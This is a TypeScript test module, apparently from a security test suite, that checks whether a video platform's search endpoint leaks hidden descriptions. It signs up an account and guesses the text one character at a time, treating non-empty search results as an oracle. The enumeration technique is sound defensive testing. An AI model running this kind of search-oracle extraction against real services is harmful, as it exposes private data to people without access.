import { signUp } from "../accounts.ts";
import { HIDDEN } from "../hidden.ts";
import { json, type Outcome, send, type Target } from "../target.ts";

/** Without signs: a search drops one at the end of a word, and finds the word without it. */
const ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789";
/** The attacker knows the beginning. */
const KNOWN = 5;
/** More searches than the limit of a minute learn nothing more. */
const LEARNED = 2;

/** Searches must not tell a member without access what a description holds. */
export async function run(target: Target): Promise<Outcome> {
  const { access: token } = await signUp(target);
  let text = HIDDEN.slice(0, KNOWN);
  let attempts = 0;
  for (let learned = 0; learned < LEARNED; learned++) {
    const found: string[] = [];
    for (const letter of ALPHABET) {
      attempts += 1;
      const answer = await send(target, `/api/videos/search/?q=${encodeURIComponent(text + letter)}`, { token });
      if (answer.status === 200 && (json(answer) as { count: number }).count > 0) found.push(letter);
    }
    if (found.length !== 1) break;
    text += found[0];
  }
  return { attempts, succeeded: HIDDEN.startsWith(text) ? text.length - KNOWN : 0 };
}
